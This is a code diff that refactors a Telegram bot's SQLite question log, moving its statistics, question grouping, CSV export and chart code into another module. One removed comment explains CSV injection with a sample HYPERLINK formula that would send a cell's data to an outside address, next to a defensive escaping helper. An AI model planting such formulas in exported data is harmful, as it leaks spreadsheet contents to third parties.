@@ -1,4 +1,7 @@
-"""What curators learn from the questions asked: an SQLite log, private by design.
+"""The questions asked, kept for curators: an SQLite log, private by design.
+
+This is the store; what curators are shown of it (statistics, grouped unanswered
+questions, the chart and the CSV) is made in ``bot.insights``.
 
 Two kinds of rows, and nothing else:
 
@@ -19,37 +22,31 @@ Durability, by kind of record:
   questions are few, so committing each costs little.
 * the per-day counters of answered questions (nearly every question) are added up in
   memory and written in one transaction every ``flush_seconds`` (1 s) by a background
-  thread, with the next unanswered record, and before ``stats``, ``purge`` and ``close``.
+  thread, with the next unanswered record, and before every read, ``purge`` and ``close``.
   Committing each of them meant a transaction and a hop to a worker thread per update, to
   add one to a counter. A killed process loses at most the counts of its last second; a
   clean shutdown (``close``) loses nothing.
 
 Records older than ``retention_days`` are purged when the log opens and then at most once a
-day, lazily, from ``record``, ``stats`` and the background flush (python-telegram-bot's
+day, lazily, from ``record``, the readers and the background flush (python-telegram-bot's
 JobQueue needs an extra we do not install, and a lazy purge needs no timer to keep alive).
 """
 
 from __future__ import annotations
 
 import asyncio
-import csv
-import io
 import logging
 import re
 import sqlite3
 import threading
 import unicodedata
 from collections import Counter
-from collections.abc import Callable, Mapping
-from dataclasses import dataclass, field
+from collections.abc import Callable
 from datetime import UTC, date, datetime, timedelta
 from pathlib import Path
-from types import MappingProxyType
-
-import numpy as np
-from rapidfuzz import fuzz, process
 
 from bot.stores.data_files import check_integrity, open_database
+from bot.stores.migrations import migrate, schema_version
 from bot.telegram.render import valid_text
 from intents.reply import EMPTY, SMALL_TALK, Reply
 
@@ -58,25 +55,14 @@ log = logging.getLogger(__name__)
 DEFAULT_FILENAME = "questions.sqlite3"
 # A question longer than this is cut before storing: a log line, not an archive of pastes.
 MAX_QUESTION_CHARS = 1000
-# Two normalised questions at least this similar are one group for curators.
-GROUP_SIMILARITY = 85.0
-# Distinct texts considered when grouping, most frequent first: bounds the clustering work
-# (every pair is scored: 1,000 texts are two 1,000 x 1,000 score matrices, under a second).
-# Rarer wordings are left out of /unanswered and the CSV: someone planting 20 questions a
-# minute cannot make the command slow, only push the rarest wordings out.
-MAX_GROUPED_TEXTS = 1000
-# Texts are compared on their first this many characters: enough to tell questions apart,
-# and it keeps each comparison cheap whatever was pasted (stored texts keep 1,000).
-COMPARED_CHARS = 200
 # Counters of answered questions wait in memory at most this long before they are written.
 FLUSH_SECONDS = 1.0
 
 # A row of daily_counts: day, language, kind, answered (0/1), entry ('' for none).
 _CounterKey = tuple[str, str, str, int, str]
 
-# Schema migrations, applied in order at start-up; ``PRAGMA user_version`` holds how many
-# have run. Append new ones, never edit old ones: a database from an older version is
-# brought forward step by step, each step in its own transaction.
+# Schema migrations (bot.stores.migrations), applied in order at start-up. Append new ones,
+# never edit old ones.
 _MIGRATIONS: tuple[str, ...] = (
     # 1: the unanswered questions and the per-day counters.
     """
@@ -105,68 +91,6 @@ _MIGRATIONS: tuple[str, ...] = (
 )
 
 
-class AnalyticsError(Exception):
-    """The question log cannot be opened (e.g. written by a newer version)."""
-
-
-@dataclass(frozen=True, slots=True)
-class DayCount:
-    day: date
-    answered: int
-    unanswered: int
-
-    @property
-    def total(self) -> int:
-        return self.answered + self.unanswered
-
-
-@dataclass(frozen=True, slots=True)
-class LanguageCount:
-    answered: int
-    unanswered: int
-
-    @property
-    def total(self) -> int:
-        return self.answered + self.unanswered
-
-
-@dataclass(frozen=True, slots=True)
-class Stats:
-    """Aggregates over the last ``days`` days (today included), for ``/stats``."""
-
-    days: int
-    per_day: tuple[DayCount, ...]  # every day of the window, oldest first, zeros included
-    per_language: Mapping[str, LanguageCount]  # most questions first
-    top_entries: tuple[tuple[str, int], ...]  # answered entries, most asked first
-    did_you_mean: int = 0
-
-    @property
-    def total(self) -> int:
-        return sum(d.total for d in self.per_day)
-
-    @property
-    def answered(self) -> int:
-        return sum(d.answered for d in self.per_day)
-
-    @property
-    def answered_rate(self) -> float | None:
-        """Share of questions answered, 0..1; None when nobody asked anything."""
-        return self.answered / self.total if self.total else None
-
-
-@dataclass(frozen=True, slots=True)
-class QuestionGroup:
-    """Similar unanswered questions, shown to curators as one line."""
-
-    example: str  # the most frequent wording
-    count: int
-    languages: tuple[str, ...]  # most frequent first
-    best_entry: str | None  # the most frequent best candidate
-    best_score: float  # the highest score any of them reached
-    last_asked: datetime
-    variants: tuple[str, ...] = field(default=())  # other wordings, most frequent first
-
-
 def normalize_question(text: str) -> str:
     """Case, width, punctuation and spacing folded away: what curators consider the same."""
     folded = unicodedata.normalize("NFKC", text).casefold()
@@ -176,7 +100,7 @@ def normalize_question(text: str) -> str:
     return re.sub(r"\s+", " ", kept).strip()
 
 
-def _utc(when: datetime | None) -> datetime:
+def as_utc(when: datetime | None) -> datetime:
     if when is None:
         return datetime.now(UTC)
     if when.tzinfo is None:  # naive times are taken as UTC, never as the server's zone
@@ -210,7 +134,6 @@ class QuestionLog:
         # A corrupt file is moved aside and a new one started; one that cannot be opened at
         # all gives way to one in memory (bot.stores.data_files): answering never waits on this.
         self._db = open_database(self.path, "question log", self._connect)
-        self._grouped: tuple[tuple[int, int | None], list[QuestionGroup]] | None = None
         self._last_purge: datetime | None = None
         self.purge()
         self._closing = threading.Event()
@@ -228,7 +151,7 @@ class QuestionLog:
             self._db.execute("PRAGMA synchronous=NORMAL")
             self._db.execute("PRAGMA busy_timeout=5000")
             check_integrity(self._db)
-            self._migrate()
+            migrate(self._db, _MIGRATIONS, self.path, "question log")
         except BaseException:
             self._db.close()
             raise
@@ -243,22 +166,7 @@ class QuestionLog:
     @property
     def schema_version(self) -> int:
         with self._lock:
-            return int(self._db.execute("PRAGMA user_version").fetchone()[0])
-
-    def _migrate(self) -> None:
-        version = int(self._db.execute("PRAGMA user_version").fetchone()[0])
-        if version > len(_MIGRATIONS):
-            raise AnalyticsError(
-                f"{self.path} has schema version {version}, newer than this program "
-                f"knows ({len(_MIGRATIONS)}); upgrade the bot or move the file away"
-            )
-        for number, script in enumerate(_MIGRATIONS[version:], start=version + 1):
-            # One transaction per step, user_version included (it is transactional), so a
-            # crash mid-migration leaves the previous version intact.
-            self._db.executescript(
-                f"BEGIN IMMEDIATE;\n{script}\nPRAGMA user_version = {number};\nCOMMIT;"
-            )
-            log.info("question log %s migrated to schema version %d", self.path, number)
+            return schema_version(self._db)
 
     # -- writing --------------------------------------------------------------------------
 
@@ -277,7 +185,7 @@ class QuestionLog:
         """
         if reply.kind == EMPTY:
             return
-        at = _utc(when) if when is not None else _utc(self._clock())
+        at = as_utc(when) if when is not None else as_utc(self._clock())
         day = at.date().isoformat()
         entry = reply.entry if reply.answered else None
         key = (day, reply.language, reply.kind, int(reply.answered), entry or "")
@@ -298,7 +206,7 @@ class QuestionLog:
             )
             with self._lock:
                 self._write(Counter({key: 1}), row)
-        self._purge_if_due()
+        self.purge_if_due()
 
     async def arecord(self, reply: Reply) -> None:
         """``record`` for the event loop: a count in memory right here, a disk write in a
@@ -347,7 +255,7 @@ class QuestionLog:
         while not self._closing.wait(self.flush_seconds):
             try:
                 self.flush()
-                self._purge_if_due()
+                self.purge_if_due()
             except Exception:  # a full disk now may have room later; keep counting
                 log.exception("could not write the question counters")
 
@@ -356,7 +264,7 @@ class QuestionLog:
 
         The per-day counters of those days go too (pending ones are written first).
         """
-        now = _utc(now) if now is not None else _utc(self._clock())
+        now = as_utc(now) if now is not None else as_utc(self._clock())
         cutoff = (now - timedelta(days=self.retention_days)).date().isoformat()
         with self._lock:
             self._write(Counter(), None)
@@ -373,8 +281,9 @@ class QuestionLog:
             log.info("purged %d question records older than %s", deleted.rowcount, cutoff)
         return int(deleted.rowcount)
 
-    def _purge_if_due(self) -> None:
-        now = _utc(self._clock())
+    def purge_if_due(self) -> None:
+        """Purge when the last purge is a day old (``record``, ``flush`` and readers call it)."""
+        now = as_utc(self._clock())
         last = self._last_purge
         if last is None or now - last >= timedelta(days=1):
             self.purge(now)
@@ -399,210 +308,42 @@ class QuestionLog:
     def __exit__(self, *exc: object) -> None:
         self.close()
 
-    # -- reading --------------------------------------------------------------------------
+    # -- reading (what bot.insights makes of it) -----------------------------------------
 
-    def _window(self, days: int, now: datetime | None) -> tuple[date, date]:
-        today = (_utc(now) if now is not None else _utc(self._clock())).date()
-        return today - timedelta(days=days - 1), today
+    def now(self) -> datetime:
+        """The log's clock, in UTC: what "today" is for its readers."""
+        return as_utc(self._clock())
 
-    def stats(self, days: int = 30, now: datetime | None = None) -> Stats:
-        """Questions per day, per language and per answered entry over the last ``days`` days."""
-        self._purge_if_due()
-        first, last = self._window(days, now)
+    def daily_counts(self, first: date, last: date) -> list[tuple[str, str, str, int, str, int]]:
+        """Rows ``(day, language, kind, answered, entry, count)`` from ``first`` to ``last``
+        (inclusive); the counts still in memory are written first, so they are included."""
         with self._lock:
-            self._write(Counter(), None)  # the counts still in memory belong in the figures
-            rows = self._db.execute(
+            self._write(Counter(), None)
+            return self._db.execute(
                 "SELECT day, language, kind, answered, entry, SUM(count) FROM daily_counts "
                 "WHERE day BETWEEN ? AND ? GROUP BY day, language, kind, answered, entry",
                 (first.isoformat(), last.isoformat()),
             ).fetchall()
-        by_day: dict[str, list[int]] = {}
-        by_language: dict[str, list[int]] = {}
-        entries: Counter[str] = Counter()
-        did_you_mean = 0
-        for day, language, kind, answered, entry, count in rows:
-            slot = 0 if answered else 1
-            by_day.setdefault(day, [0, 0])[slot] += count
-            by_language.setdefault(language, [0, 0])[slot] += count
-            if answered and entry:
-                entries[entry] += count
-            if kind == "did_you_mean":
-                did_you_mean += count
-        per_day = tuple(
-            DayCount(d, *by_day.get(d.isoformat(), (0, 0)))
-            for d in (first + timedelta(days=i) for i in range(days))
-        )
-        languages = sorted(by_language.items(), key=lambda item: (-sum(item[1]), item[0]))
-        return Stats(
-            days=days,
-            per_day=per_day,
-            per_language=MappingProxyType({lang: LanguageCount(*c) for lang, c in languages}),
-            top_entries=tuple(sorted(entries.items(), key=lambda item: (-item[1], item[0]))),
-            did_you_mean=did_you_mean,
-        )
 
-    def unanswered(self, limit: int | None = 20) -> list[QuestionGroup]:
-        """Unanswered questions grouped by similarity, most frequent group first.
-
-        Deterministic: texts are visited most frequent first (ties by text), and each joins
-        the earlier group whose leading text is most similar, if similar enough, else starts
-        its own. Only the ``MAX_GROUPED_TEXTS`` most frequent distinct texts are grouped,
-        each compared on its first ``COMPARED_CHARS`` characters.
-        """
+    def unanswered_state(self) -> tuple[int, int | None]:
+        """(rows, highest id) of the unanswered questions: it changes whenever a question is
+        added or purged, so a reader can tell whether what it made of them is still true."""
         with self._lock:
-            # /unanswered lists the groups and then sends them all as CSV: the second call
-            # reuses the first's grouping while no question was added or purged.
-            state = self._db.execute("SELECT COUNT(*), MAX(id) FROM unanswered").fetchone()
-            if self._grouped is not None and self._grouped[0] == state:
-                groups = self._grouped[1]
-                return list(groups) if limit is None else groups[:limit]
+            return self._unanswered_state()
+
+    def _unanswered_state(self) -> tuple[int, int | None]:
+        count, highest = self._db.execute("SELECT COUNT(*), MAX(id) FROM unanswered").fetchone()
+        return int(count), highest
+
+    def unanswered_rows(
+        self,
+    ) -> tuple[tuple[int, int | None], list[tuple[str, str, str, str | None, float, str]]]:
+        """The state (see ``unanswered_state``) and every unanswered question, oldest first,
+        as ``(question, normalized, language, best_entry, score, asked_at)``."""
+        with self._lock:
+            state = self._unanswered_state()
             rows = self._db.execute(
                 "SELECT question, normalized, language, best_entry, score, asked_at "
                 "FROM unanswered ORDER BY id"
             ).fetchall()
-        by_text: dict[str, list[tuple[str, str, str | None, float, str]]] = {}
-        for question, normalized, language, best_entry, score, asked_at in rows:
-            by_text.setdefault(normalized, []).append(
-                (question, language, best_entry, score, asked_at)
-            )
-        texts = sorted(by_text, key=lambda t: (-len(by_text[t]), t))[:MAX_GROUPED_TEXTS]
-        members = _cluster(texts)
-        groups = [_group([r for t in texts_ for r in by_text[t]]) for texts_ in members]
-        groups.sort(key=lambda g: (-g.count, g.example))
-        with self._lock:
-            self._grouped = (state, groups)
-        return groups if limit is None else groups[:limit]
-
-    def unanswered_csv(self) -> bytes:
-        """Every unanswered group as CSV, for curators' spreadsheets.
-
-        Encoded UTF-8 *with* a byte-order mark: without it Excel guesses the system code
-        page and shows Japanese (and umlauts) as mojibake; other tools ignore the BOM. Every
-        text cell goes through ``spreadsheet_safe``: the questions are anybody's input.
-        """
-        out = io.StringIO()
-        writer = csv.writer(out, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
-        writer.writerow(
-            [
-                "count",
-                "question",
-                "languages",
-                "best_candidate",
-                "best_score",
-                "last_asked_utc",
-                "variants",
-            ]
-        )
-        for group in self.unanswered(limit=None):
-            writer.writerow(
-                [
-                    group.count,
-                    spreadsheet_safe(group.example),
-                    spreadsheet_safe(" ".join(group.languages)),
-                    spreadsheet_safe(group.best_entry or ""),
-                    f"{group.best_score:.0f}",
-                    group.last_asked.isoformat(timespec="seconds"),
-                    spreadsheet_safe(" | ".join(group.variants)),
-                ]
-            )
-        return out.getvalue().encode("utf-8-sig")
-
-    def stats_chart_png(self, days: int = 30, now: datetime | None = None) -> bytes:
-        """Questions per day, answered and unanswered stacked, as a PNG image."""
-        # The object-oriented API with the Agg canvas, not pyplot: no global figure state,
-        # no backend selection, never a display, safe to call from a worker thread.
-        from matplotlib.backends.backend_agg import FigureCanvasAgg
-        from matplotlib.figure import Figure
-        from matplotlib.ticker import MaxNLocator
-
-        stats = self.stats(days, now)
-        positions = list(range(len(stats.per_day)))
-        answered = [d.answered for d in stats.per_day]
-        unanswered = [d.unanswered for d in stats.per_day]
-        figure = Figure(figsize=(8, 4), dpi=100)
-        FigureCanvasAgg(figure)
-        axes = figure.add_subplot()
-        axes.bar(positions, answered, color="#2e7d32", label="answered")
-        axes.bar(positions, unanswered, bottom=answered, color="#c62828", label="not answered")
-        axes.set_title(f"Questions per day, last {days} days (UTC)")
-        axes.set_ylabel("questions")
-        axes.yaxis.set_major_locator(MaxNLocator(integer=True))
-        axes.legend(loc="upper left")
-        step = max(1, len(positions) // 10)  # about ten date labels, however long the window
-        ticks = positions[::-step][::-1]  # counted back from today, so today has a label
-        axes.set_xticks(ticks)
-        axes.set_xticklabels([stats.per_day[i].day.strftime("%d %b") for i in ticks])
-        figure.autofmt_xdate()
-        figure.tight_layout()
-        buffer = io.BytesIO()
-        figure.savefig(buffer, format="png")
-        return buffer.getvalue()
-
-
-# What makes a spreadsheet read a cell as a formula (OWASP, "CSV injection"): a question
-# such as =HYPERLINK("http://…?d="&A3,"Click") would otherwise run when an admin opens it.
-_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-
-
-def spreadsheet_safe(cell: str) -> str:
-    """``cell`` with a leading ``'`` when it would start a formula; Excel, LibreOffice and
-    Google Sheets show the text and hide the quote."""
-    return "'" + cell if cell.startswith(_FORMULA_STARTS) else cell
-
-
-def _cluster(texts: list[str]) -> list[list[str]]:
-    """``texts`` (most frequent first) in groups: each joins the earlier leader it is most
-    similar to, when that similarity reaches ``GROUP_SIMILARITY``, else leads a group.
-
-    Similarity is the higher of ``ratio`` (typos, and text without spaces: Japanese) and
-    ``token_sort_ratio`` (word order), never the set/partial scorers: they call a single
-    shared word a perfect match. All pairs are scored at once in C (``process.cdist``); the
-    token sort is done once per text (``ratio`` of sorted words is ``token_sort_ratio``).
-    """
-    if not texts:
-        return []
-    cut = [text[:COMPARED_CHARS] for text in texts]
-    words_sorted = [" ".join(sorted(text.split())) for text in cut]
-    scores = np.maximum(
-        *(
-            process.cdist(
-                side,
-                side,
-                scorer=fuzz.ratio,
-                score_cutoff=GROUP_SIMILARITY,
-                dtype=np.float32,
-                workers=-1,
-            )
-            for side in (cut, words_sorted)
-        )
-    )
-    leaders: list[int] = []
-    members: list[list[str]] = []
-    for index, text in enumerate(texts):
-        if leaders:
-            row = scores[index, leaders]
-            best = int(row.argmax())  # the first of equally similar leaders
-            if row[best] >= GROUP_SIMILARITY:
-                members[best].append(text)
-                continue
-        leaders.append(index)
-        members.append([text])
-    return members
-
-
-def _group(rows: list[tuple[str, str, str | None, float, str]]) -> QuestionGroup:
-    wordings = Counter(question for question, *_ in rows)
-    ranked = sorted(wordings.items(), key=lambda item: (-item[1], item[0]))
-    languages = Counter(language for _, language, *_ in rows)
-    candidates = Counter(entry for _, _, entry, _, _ in rows if entry)
-    return QuestionGroup(
-        example=ranked[0][0],
-        count=len(rows),
-        languages=tuple(lang for lang, _ in sorted(languages.items(), key=lambda i: (-i[1], i[0]))),
-        best_entry=(
-            sorted(candidates.items(), key=lambda i: (-i[1], i[0]))[0][0] if candidates else None
-        ),
-        best_score=max(score for *_, score, _ in rows),
-        last_asked=datetime.fromisoformat(max(asked_at for *_, asked_at in rows)),
-        variants=tuple(text for text, _ in ranked[1:]),
-    )
+        return state, rows
